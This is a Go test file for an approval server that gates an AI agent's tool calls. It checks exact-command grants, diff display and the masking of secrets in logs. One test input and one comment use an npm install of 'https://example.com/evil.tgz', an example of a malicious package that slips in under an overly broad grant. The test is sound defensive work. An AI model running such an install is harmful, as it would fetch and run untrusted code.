package server

import (
	"io"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
	"github.com/google/go-cmp/cmp"

	"github.com/toolguard/toolguard/approval"
	"github.com/toolguard/toolguard/risk"
)

// TestGrantIsWhatThePersonSaw: a pending approval says what a session or
// always answer allows ("grant") and which prefixes may widen it; an
// always answer without a prefix allows exactly the command (it used to
// allow every command that starts with it: npm install then covered
// npm install https://example.com/evil.tgz), and a chosen prefix must be
// one offered.
func TestGrantIsWhatThePersonSaw(t *testing.T) {
	dir := t.TempDir()
	grants := approval.NewGrantStore(dir, filepath.Join(dir, "policy.toml"))
	s := newTestServer(t, Options{Grants: grants})
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()
	body := func(cmd string) string {
		return `{"tool":"Bash","input":{"command":"` + cmd + `"},"cwd":"/tmp/ws","session":"g1"}`
	}

	first := authorizeAsync(ts.URL, body("npm install lodash --save"))
	p := waitPending(t, s.Broker(), 1)[0]
	if diff := cmp.Diff([]string{"Bash(npm install lodash --save)", "npm install lodash", "npm install"}, append([]string{p.Grant}, p.Prefixes...)); diff != "" {
		t.Errorf("grant and prefixes (-want +got):\n%s", diff)
	}
	if rec := do(t, s.Handler(), "POST", "/v1/approvals/"+p.ID, `{"approved":true,"scope":"always","prefix":"npm"}`, pageHeaders); rec.Code != 400 {
		t.Errorf("a prefix not offered: status %d, want 400 (%s)", rec.Code, rec.Body)
	}
	if rec := do(t, s.Handler(), "POST", "/v1/approvals/"+p.ID, `{"approved":true,"scope":"always"}`, pageHeaders); rec.Code != 200 {
		t.Fatalf("answer: %d %s", rec.Code, rec.Body)
	}
	if d := awaitDecision(t, first); d.Verdict != risk.Allow {
		t.Fatalf("first call: %s", d.Verdict)
	}

	// Exactly the same command is granted; one more argument is asked.
	if d := awaitDecision(t, authorizeAsync(ts.URL, body("npm install lodash --save"))); d.Verdict != risk.Allow || d.Rule != "grant:Bash(npm install lodash --save)" {
		t.Errorf("same command: %s %s", d.Verdict, d.Rule)
	}
	evil := authorizeAsync(ts.URL, body("npm install lodash --save https://example.com/evil.tgz"))
	p = waitPending(t, s.Broker(), 1)[0]
	if rec := do(t, s.Handler(), "POST", "/v1/approvals/"+p.ID, `{"approved":true,"scope":"session","prefix":"npm install"}`, pageHeaders); rec.Code != 200 {
		t.Fatalf("answer with a prefix: %d %s", rec.Code, rec.Body)
	}
	awaitDecision(t, evil)
	if d := awaitDecision(t, authorizeAsync(ts.URL, body("npm install react"))); d.Rule != "grant:Bash(npm install:*)" {
		t.Errorf("after the prefix grant: %s %s", d.Verdict, d.Rule)
	}
}

// TestBrowserShowsEditsAsDiffs: a Write card shows the file and its lines
// as added, an Edit card the old and new text, and both offer the grant
// they would create.
func TestBrowserShowsEditsAsDiffs(t *testing.T) {
	ctx := browser(t)
	s := newTestServer(t, Options{})
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()
	defer s.Close()
	if err := chromedp.Do(ctx, chromedp.Navigate(ts.URL+"/#token="+testKey), chromedp.WaitVisible(chromedp.ID("try-form"))); err != nil {
		t.Fatalf("open page: %v", err)
	}
	waitSubscribers(t, s.hub, 1)
	authorizeAsync(ts.URL, `{"tool":"Edit","input":{"file_path":"/tmp/ws/.vscode/settings.json","old_string":"\"a\": 1","new_string":"\"a\": 2"},"cwd":"/tmp/ws","session":"d1"}`)
	if err := chromedp.Do(ctx, chromedp.WaitVisible(chromedp.CSS("#pending .card .cmd.diff"))); err != nil {
		t.Fatalf("edit card: %v", err)
	}
	text := func(sel string) string {
		s, err := chromedp.Run(ctx, chromedp.Text(chromedp.CSS(sel)))
		if err != nil {
			t.Errorf("%s: %v", sel, err)
		}
		return s
	}
	added, removed, grant := text("#pending .card .cmd .add"), text("#pending .card .cmd .del"), text("#pending .card .remember")
	if strings.TrimSpace(added) != `+ "a": 2` || strings.TrimSpace(removed) != `- "a": 1` {
		t.Errorf("diff lines %q / %q", added, removed)
	}
	if want := "Edit(path /tmp/ws/.vscode/settings.json)"; !strings.Contains(grant, want) {
		t.Errorf("grant shown %q, want it to name %q", grant, want)
	}
}

// TestCardsShowWhatRuns: the pending list and the approval event a page
// shows carry the call exactly as it would run, secrets included (the
// person approves what they see, and a masked value could hide code); no
// grant that would store the secret is offered, and the decision feed,
// which is a log, masks it.
func TestCardsShowWhatRuns(t *testing.T) {
	const secret = "S3cretPassw0rd-zq81"
	s := newTestServer(t, Options{})
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()
	req, _ := http.NewRequest("GET", ts.URL+"/v1/events", nil)
	req.Header.Set("Authorization", "Bearer "+testKey)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	waitSubscribers(t, s.hub, 1)
	const command = "docker login -u me -p " + secret + " registry.example"
	done := authorizeAsync(ts.URL, `{"tool":"Bash","input":{"command":"`+command+`"},"cwd":"/tmp/ws","session":"m1"}`)
	p := waitPending(t, s.Broker(), 1)[0]
	list := do(t, s.Handler(), "GET", "/v1/approvals", "", pageHeaders)
	if !strings.Contains(list.Body.String(), `"command":"`+command+`"`) || strings.Contains(list.Body.String(), `"masked"`) {
		t.Errorf("GET /v1/approvals does not show the command as it would run: %s", list.Body)
	}
	if strings.Contains(list.Body.String(), `"grant"`) {
		t.Errorf("a grant that would store the password is offered: %s", list.Body)
	}
	do(t, s.Handler(), "POST", "/v1/approvals/"+p.ID, `{"approved":false}`, pageHeaders)
	awaitDecision(t, done)
	buf := make([]byte, 64<<10)
	n, _ := io.ReadAtLeast(resp.Body, buf, 1)
	for !strings.Contains(string(buf[:n]), "event: decision") && n < len(buf) {
		m, err := resp.Body.Read(buf[n:])
		if err != nil {
			break
		}
		n += m
	}
	events := string(buf[:n])
	required, rest, _ := strings.Cut(events[strings.Index(events, "event: approval_required"):], "event: approval_resolved")
	if !strings.Contains(required, `"command":"`+command+`"`) {
		t.Errorf("the approval event does not show the command as it would run:\n%s", required)
	}
	if strings.Contains(rest, secret) || !strings.Contains(rest, "docker login -u me -p *** registry.example") {
		t.Errorf("the decision feed shows the password:\n%s", rest)
	}
}
